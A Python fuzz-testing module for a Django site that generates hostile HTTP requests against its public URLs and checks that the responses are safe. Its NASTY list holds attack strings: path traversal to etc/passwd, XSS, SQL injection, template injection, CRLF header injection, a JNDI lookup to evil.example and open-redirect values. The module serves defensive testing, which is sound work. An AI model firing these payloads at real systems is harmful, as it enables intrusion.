"""Hostile HTTP requests for every public URL, and the rules every answer keeps.

Shared by tests/test_fuzz_public.py (a few hundred cases in CI) and
.ci/fuzz.py (``make fuzz``, ten thousand): the list of public URLs, the
Hypothesis strategies that build a request, how to send one through Django's
test client, and what an acceptable answer looks like. No answer may be a 5xx;
a refusal is an HTML page with one <h1>, or the API's JSON error.
"""

from __future__ import annotations

import gzip
import json
import re
import traceback
from collections.abc import Sequence
from dataclasses import dataclass, replace
from urllib.parse import quote, quote_from_bytes, urlsplit

from django.core import signing
from django.test import Client
from hypothesis import strategies as st

from scopes.snapshot import Snapshot
from troubleshooter.wizard_views import PAGE_VIEW_SALT

MULTIPART_BOUNDARY = "fuzzBoundary7MA4YWxkTrZu0gW"
FORM = "application/x-www-form-urlencoded"
MULTIPART = f"multipart/form-data; boundary={MULTIPART_BOUNDARY}"

# Every parameter and form field name some public view reads.
FIELD_NAMES = (
    "scenario",
    "context",
    "key_type",
    "method",
    "path",
    "operation",
    "target",
    "scopes",
    "scope",
    "scopes_text",
    "scopes_asked",
    "workspace_id_sent",
    "workspace_id",
    "role",
    "plan",
    "user_keys",
    "q",
    "find",
    "show",
    "area",
    "want",
    "group",
    "plane",
    "fixed",
    "page_view",
    "kind",
    "key",
    "message",
    "source_url",
    "text",
    "reported",
    "csrfmiddlewaretoken",
)

NASTY = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: injected=1",
    "\x1b[31mred",
    "\x7f\x08\x0c",
    "\u202eevil\u202c",
    "\u200f\u200e\u2066",
    "\ufeffbom",
    "\ud800",
    "x\udfffy",
    "\U0001f600" * 40,
    "ǅİßﬃ",
    "%",
    "%00",
    "%zz",
    "%ED%A0%80",
    "&",
    "=",
    "+",
    "#",
    "?",
    "../" * 8 + "etc/passwd",
    "..\\..\\windows",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "{{7*7}}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "-1",
    "0",
    "1e999",
    "NaN",
    "null",
    "true",
    "[]",
    "{}",
    '{"text": 1}',
    "op:",
    "op:../admin",
    "get",
    "get /v1/models",
    "  POST   /v1/chat/completions  ",
    "/v1/" + "a/" * 300,
    "/v1/chat/completions?x=1#frag",
    "https://api.portkey.ai/v1/chat/completions",
    "//evil.example/",
    "http://evil.example/",
    "\\\\evil.example",
    "unknown",
    "none",
    ",,,,",
    "logs.view," * 300,
    "portkey.completions.write",
)

ALL_METHODS = (
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "PROPFIND",
    "CONNECT",
    "get",
    "post",
    "X-NONSENSE",
)

CONTENT_TYPES = (
    FORM,
    MULTIPART,
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=wrongBoundary",
    "application/json",
    "application/json; charset=latin-1",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=no-such-charset",
    "text/plain",
    "application/xml",
    "application/octet-stream",
    "",
    "\x00/\x00",
)

SIMPLE_HEADERS = (
    "HTTP_HX_REQUEST",
    "HTTP_HX_HISTORY_RESTORE_REQUEST",
    "HTTP_HX_CURRENT_URL",
    "HTTP_HX_TARGET",
    "HTTP_HX_TRIGGER",
    "HTTP_IF_NONE_MATCH",
    "HTTP_IF_MODIFIED_SINCE",
    "HTTP_IF_MATCH",
    "HTTP_ACCEPT",
    "HTTP_ACCEPT_ENCODING",
    "HTTP_ACCEPT_LANGUAGE",
    "HTTP_COOKIE",
    "HTTP_HOST",
    "HTTP_X_FORWARDED_FOR",
    "HTTP_X_FORWARDED_PROTO",
    "HTTP_X_FORWARDED_HOST",
    "HTTP_ORIGIN",
    "HTTP_REFERER",
    "HTTP_RANGE",
    "HTTP_USER_AGENT",
    "HTTP_X_CSRFTOKEN",
    "HTTP_AUTHORIZATION",
    "HTTP_X_PORTKEY_API_KEY",
)
HEADER_VALUES = (
    "true",
    "false",
    "target-list",
    "wizard",
    '"v1-0000000000000000"',
    "*",
    'W/"x", "y"',
    "application/json",
    "text/html,*/*;q=0.1",
    "gzip, deflate, br",
    "csrftoken=" + "A" * 64,
    "sessionid=garbage; csrftoken=",
    "evil.example",
    "testserver:99999",
    "https",
    "bytes=0-0,5-",
    "https://evil.example",
    "Bearer " + "Zk3" * 12,
)


@dataclass(frozen=True, slots=True)
class Target:
    """One public URL: a label for counting (its route), a concrete path and
    the methods it is meant for."""

    label: str
    path: str
    methods: tuple[str, ...] = ("GET",)


def public_targets(snapshot: Snapshot, short_code: str) -> list[Target]:
    """Every public URL of the site, each reference row and scenario included."""
    targets = [
        Target("/", "/"),
        Target("/start/", "/start/"),
        Target("/fix/", "/fix/"),
        Target("/f/ (make a short link)", "/f/", ("POST",)),
        Target("/f/<code>/", f"/f/{short_code}/"),
        Target("/f/<code>/", "/f/000000000000/"),
        Target("/feedback/", "/feedback/", ("POST",)),
        Target("/paste/", "/paste/", ("GET", "POST")),
        Target("/paste/continue/", "/paste/continue/"),
        Target("/reference/", "/reference/"),
        Target("/reference/scopes/", "/reference/scopes/"),
        Target("/reference/endpoints/", "/reference/endpoints/"),
        Target("/reference/causes/", "/reference/causes/"),
        Target("/reference/report/", "/reference/report/", ("POST",)),
        Target("/search/", "/search/"),
        Target("/keys/simulator/", "/keys/simulator/"),
        Target("/keys/builder/", "/keys/builder/"),
        Target("/api/v1/check", "/api/v1/check"),
        Target("/api/v1/scopes", "/api/v1/scopes"),
        Target("/api/v1/endpoints", "/api/v1/endpoints"),
        Target("/api/v1/openapi.json", "/api/v1/openapi.json"),
        Target("/api/v1/parse", "/api/v1/parse", ("POST",)),
        Target("/api/v1/<unknown>", "/api/v1/no-such-thing"),
    ]
    targets += [
        Target("/diagnose/<scenario>/", f"/diagnose/{slug}/")
        for slug in snapshot.scenarios
    ]
    targets += [
        Target("/reference/scopes/<name>/", f"/reference/scopes/{name}/")
        for name in snapshot.scopes
    ]
    targets += [
        Target("/reference/key-types/<slug>/", f"/reference/key-types/{slug}/")
        for slug in snapshot.key_types
    ]
    targets += [
        Target(
            "/reference/endpoints/<method>/<path>/",
            f"/reference/endpoints/{e.method}{e.path}/",
        )
        for e in snapshot.endpoints
    ]
    targets += [
        Target("/reference/tasks/<slug>/", f"/reference/tasks/{slug}/")
        for slug in snapshot.operations
    ]
    return targets


_KNOWN: dict[str, list[str]] = {}


def known_values(snapshot: Snapshot) -> list[str]:
    """Values the site understands, so fuzzing also reaches the deep paths."""
    if snapshot.stamp not in _KNOWN:
        _KNOWN[snapshot.stamp] = _known_values(snapshot)
    return _KNOWN[snapshot.stamp]


def _known_values(snapshot: Snapshot) -> list[str]:
    values = [
        *snapshot.scenarios,
        *snapshot.scopes,
        *snapshot.key_types,
        *snapshot.roles,
        *snapshot.causes,
        *(f"op:{slug}" for slug in snapshot.operations),
        *snapshot.operations,
        *(e.method for e in snapshot.endpoints[:5]),
        *(e.path for e in snapshot.endpoints),
        *(e.label for e in snapshot.endpoints),
        *{e.area for e in snapshot.endpoints},
        "code",
        "playground",
        "prompt_studio",
        "model_catalog",
        "yes",
        "no",
        "enterprise",
        "other",
        "0",
        "1",
        "2+",
        "all",
        "denied",
        "allowed",
        "data",
        "control",
        "endpoint",
        "operation",
        "Something is wrong with this row, please check.",
        "https://portkey.ai/docs",
    ]
    return sorted(set(values))


# -- Strategies ------------------------------------------------------------------

# Every code point, lone surrogates and control characters included.
any_text = st.text(alphabet=st.characters(exclude_categories=()), max_size=40)


def huge(seed: st.SearchStrategy[str], low: int, high: int) -> st.SearchStrategy:
    return st.builds(lambda s, n: (s or "A") * n, seed, st.integers(low, high))


def hostile_values(
    snapshot: Snapshot, huge_ones: bool = True
) -> st.SearchStrategy[str]:
    values = [
        st.sampled_from(known_values(snapshot)),
        st.sampled_from(NASTY),
        any_text,
        st.integers().map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
    ]
    if huge_ones:
        values.append(huge(st.text(min_size=1, max_size=4), 500, 20_000))
    return st.one_of(values)


def raw_bytes(text: str) -> bytes:
    # Lone surrogates become the (invalid) UTF-8 bytes a broken client sends.
    return text.encode("utf-8", "surrogatepass")


def encode_pairs(pairs: Sequence[tuple[str, str]], style: str) -> bytes:
    """A query string or form body, percent-encoded, '+'-encoded or raw."""
    parts = []
    for name, value in pairs:
        if style == "raw":
            parts.append(raw_bytes(name) + b"=" + raw_bytes(value))
        else:
            plus = style == "plus"
            name_part = quote_from_bytes(raw_bytes(name), safe="")
            value_part = quote_from_bytes(raw_bytes(value), safe="")
            if plus:
                value_part = value_part.replace("%20", "+")
            parts.append(f"{name_part}={value_part}".encode("ascii"))
    return (b";" if style == "semicolons" else b"&").join(parts)


def encode_multipart(pairs: Sequence[tuple[str, str]], boundary: str) -> bytes:
    """multipart/form-data written by hand, so any bytes can go in."""
    lines = []
    for name, value in pairs:
        lines += [
            b"--" + boundary.encode("ascii"),
            b'Content-Disposition: form-data; name="' + raw_bytes(name) + b'"',
            b"",
            raw_bytes(value),
        ]
    lines += [b"--" + boundary.encode("ascii") + b"--", b""]
    return b"\r\n".join(lines)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | any_text,
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(st.sampled_from(FIELD_NAMES) | any_text, children, max_size=4)
    ),
    max_leaves=12,
)


def pairs_strategy(snapshot: Snapshot) -> st.SearchStrategy[list[tuple[str, str]]]:
    names = st.one_of(st.sampled_from(FIELD_NAMES), any_text)
    pair = st.tuples(names, hostile_values(snapshot))
    repeated = st.builds(
        lambda name, value, count: [(name, value)] * count,
        st.sampled_from(FIELD_NAMES),
        hostile_values(snapshot, huge_ones=False),
        st.integers(2, 1200),
    )
    return st.one_of(st.lists(pair, max_size=10), repeated)


def body_strategy(snapshot: Snapshot) -> st.SearchStrategy[tuple[bytes, str]]:
    """A body and the content type it claims, which need not match."""
    pairs = pairs_strategy(snapshot)
    style = st.sampled_from(["percent", "plus", "raw", "semicolons"])
    claimed = st.sampled_from(CONTENT_TYPES)
    form = st.builds(lambda p, s, c: (encode_pairs(p, s), c), pairs, style, claimed)
    multipart = st.builds(
        lambda p, c: (encode_multipart(p, MULTIPART_BOUNDARY), c), pairs, claimed
    )
    as_json = st.builds(
        lambda v, c: (json.dumps(v).encode(), c),
        st.one_of(
            json_values,
            st.fixed_dictionaries({"text": hostile_values(snapshot)}),
            st.fixed_dictionaries({"text": json_values}),
        ),
        claimed,
    )
    deep_json = st.builds(
        lambda n, c: (b"[" * n + b"]" * n, c), st.integers(500, 200_000), claimed
    )
    paste_sized = st.builds(
        lambda n, c: (b"text=" + b"x" * n, c),
        st.sampled_from([999_000, 1_000_001, 1_200_000, 2_700_000]),
        st.sampled_from([FORM, "application/json"]),
    )
    garbage = st.tuples(st.binary(max_size=600), claimed)
    return st.one_of(
        st.just((b"", "")),
        form,
        multipart,
        as_json,
        garbage,
        deep_json,
        paste_sized,
    )


def header_strategy(snapshot: Snapshot) -> st.SearchStrategy[dict[str, str]]:
    latin1 = hostile_values(snapshot).map(
        lambda text: raw_bytes(text).decode("latin-1")
    )
    value = st.one_of(st.sampled_from(HEADER_VALUES), latin1)
    name = st.one_of(
        st.sampled_from(SIMPLE_HEADERS),
        st.from_regex(r"\AHTTP_[A-Z][A-Z0-9_]{0,20}\Z"),
    )
    return st.dictionaries(name, value, max_size=5)


def path_strategy(target: Target) -> st.SearchStrategy[str]:
    """The target's path, usually as is, sometimes bent out of shape."""
    path = quote(target.path, safe="/")
    segment = any_text.map(lambda t: quote_from_bytes(raw_bytes(t), safe=""))
    return st.one_of(
        st.just(path),
        st.just(path),
        st.just(path),
        segment.map(lambda s: path + s),
        segment.map(lambda s: path.rstrip("/") + "/" + s + "/"),
        st.just(path.rstrip("/") or "/"),
        st.just("/" + path),
        st.just(path.replace("/", "//")),
        st.just(path + "../../../"),
        st.just(path.upper()),
        st.just(path + "%00"),
        st.just(path + "%ED%A0%80/"),
    )


@dataclass(frozen=True, slots=True)
class HostileRequest:
    target: Target
    method: str
    path: str
    query: str
    body: bytes
    content_type: str
    headers: dict[str, str]
    enforce_csrf: bool

    def __repr__(self) -> str:
        return f"HostileRequest({self.describe()})"

    def _repr_pretty_(self, printer, cycle) -> None:
        # Hypothesis prints failing examples with this; keep huge bodies short.
        printer.text(repr(self))

    def describe(self) -> str:
        """The request in a few lines, cut short, for a failure message."""

        def cut(value, limit=300) -> str:
            text = repr(value)
            return text if len(text) <= limit else text[:limit] + f"... ({len(text)})"

        return (
            f"{self.method} {cut(self.path)}?{cut(self.query)}\n"
            f"  content-type={self.content_type!r} body={cut(self.body)}\n"
            f"  headers={cut(self.headers, 600)} enforce_csrf={self.enforce_csrf}"
        )


def signed_page_views(snapshot: Snapshot) -> st.SearchStrategy[str]:
    """Feedback tokens: ones the server could have signed (for any fix page
    URL, hostile ones included), expired-looking forgeries and junk."""
    honest_query = st.sampled_from(
        [
            "scenario=completions&key_type=admin&method=POST&path=/v1/chat/completions",
            "scenario=logs&key_type=workspace_user&target=unknown",
            "",
        ]
    )
    contents = st.fixed_dictionaries(
        {
            "q": st.one_of(honest_query, hostile_values(snapshot)),
            "id": st.one_of(st.just("pv1"), any_text),
        }
    )
    signed = contents.map(lambda c: signing.dumps(c, salt=PAGE_VIEW_SALT))
    return st.one_of(signed, any_text, st.just("x:y:z"))


@st.composite
def hostile_requests(draw, targets: Sequence[Target], snapshot: Snapshot):
    # Each route is as likely as any other, however many rows it has.
    routes: dict[str, list[Target]] = {}
    for candidate in targets:
        routes.setdefault(candidate.label, []).append(candidate)
    target = draw(st.sampled_from(routes[draw(st.sampled_from(sorted(routes)))]))
    method = draw(
        st.one_of(st.sampled_from(target.methods), st.sampled_from(ALL_METHODS))
    )
    pairs = draw(pairs_strategy(snapshot))
    style = draw(st.sampled_from(["percent", "plus", "raw", "semicolons"]))
    query = encode_pairs(pairs, style).decode("latin-1")

    body, content_type = draw(body_strategy(snapshot))
    if target.label == "/feedback/" and draw(st.booleans()):
        fields = [
            ("page_view", draw(signed_page_views(snapshot))),
            ("fixed", draw(st.sampled_from(["yes", "no", "maybe", ""]))),
        ]
        body, content_type = encode_pairs(fields, "percent"), FORM

    return HostileRequest(
        target=target,
        method=method,
        path=draw(path_strategy(target)),
        query=query,
        body=body,
        content_type=content_type,
        headers=draw(header_strategy(snapshot)),
        enforce_csrf=draw(st.booleans()),
    )


# -- Sending and judging -----------------------------------------------------------


def fuzz_clients() -> dict[bool, Client]:
    """Two clients that report a crash as the 500 a visitor would get."""
    return {
        enforce: Client(enforce_csrf_checks=enforce, raise_request_exception=False)
        for enforce in (False, True)
    }


def send(clients: dict[bool, Client], request: HostileRequest):
    client = clients[request.enforce_csrf]
    client.cookies.clear()
    return client.generic(
        request.method,
        request.path,
        data=request.body,
        content_type=request.content_type,
        QUERY_STRING=request.query,
        **request.headers,
    )


def h1_count(html: str) -> int:
    return len(re.findall(r"<h1[\s>]", html))


def is_api(response) -> bool:
    return response.wsgi_request.path_info.startswith("/api/")


def problems(
    request: HostileRequest, response, clients: dict[bool, Client]
) -> list[str]:
    """What is wrong with this answer, in words; empty when it is acceptable.
    ``clients`` send the request again where one answer is not enough to judge."""
    found: list[str] = []
    status = response.status_code
    if status >= 500:
        crash = response.exc_info
        found.append(
            f"answered {status}\n"
            + ("".join(traceback.format_exception(*crash)) if crash else "")
        )
        return found

    if status == 304:
        found += _not_modified_problems(request, clients)
    elif 300 <= status < 400:
        found += _redirect_problems(response)
    if status == 405 and not response.get("Allow"):
        found.append("a 405 without an Allow header")
    if status >= 400 and request.method.upper() != "HEAD" and status != 304:
        found += _refusal_problems(response)
    return found


CONDITIONAL_HEADERS = (
    "HTTP_IF_NONE_MATCH",
    "HTTP_IF_MODIFIED_SINCE",
    "HTTP_IF_MATCH",
    "HTTP_IF_UNMODIFIED_SINCE",
)


def _not_modified_problems(
    request: HostileRequest, clients: dict[bool, Client]
) -> list[str]:
    """A 304 only stands in for a 200 the client already holds (RFC 9110,
    13.2.1): the same request without its preconditions must answer 200."""
    if request.method.upper() not in ("GET", "HEAD"):
        return [f"a 304 to a {request.method}"]
    unconditional = replace(
        request,
        headers={
            name: value
            for name, value in request.headers.items()
            if name not in CONDITIONAL_HEADERS
        },
    )
    status = send(clients, unconditional).status_code
    if status != 200:
        return [f"a 304 standing in for a {status}"]
    return []


def _redirect_problems(response) -> list[str]:
    location = response.get("Location", "")
    if not location:
        return ["a redirect without a Location"]
    parts = urlsplit(location)
    if location.startswith(("//", "\\")) or parts.netloc not in ("", "testserver"):
        return [f"a redirect off the site: {location[:200]!r}"]
    if parts.scheme not in ("", "http", "https"):
        return [f"a redirect to another scheme: {location[:200]!r}"]
    return []


def body_text(response) -> str:
    """The body as a browser shows it: unzipped when it was sent gzipped."""
    content = response.content
    if response.get("Content-Encoding") == "gzip":
        content = gzip.decompress(content)
    return content.decode("utf-8", "replace")


def _refusal_problems(response) -> list[str]:
    content_type = response.get("Content-Type", "")
    body = body_text(response)
    if is_api(response):
        try:
            error = json.loads(body)["error"]
        except (ValueError, KeyError, TypeError):
            return [f"an API refusal that is not the JSON error: {body[:200]!r}"]
        if not isinstance(error.get("code"), str) or not isinstance(
            error.get("message"), str
        ):
            return [f"an API error without code and message: {body[:200]!r}"]
        return []
    if not content_type.startswith("text/html"):
        return [f"a refusal that is not a page ({content_type}): {body[:200]!r}"]
    if response.wsgi_request.META.get("HTTP_HX_REQUEST") == "true" and "<" in body:
        # A fragment for htmx to swap in, such as a refused form kept as typed.
        return []
    if h1_count(body) != 1:
        return [f"a refusal page with {h1_count(body)} <h1>: {body[:300]!r}"]
    return []
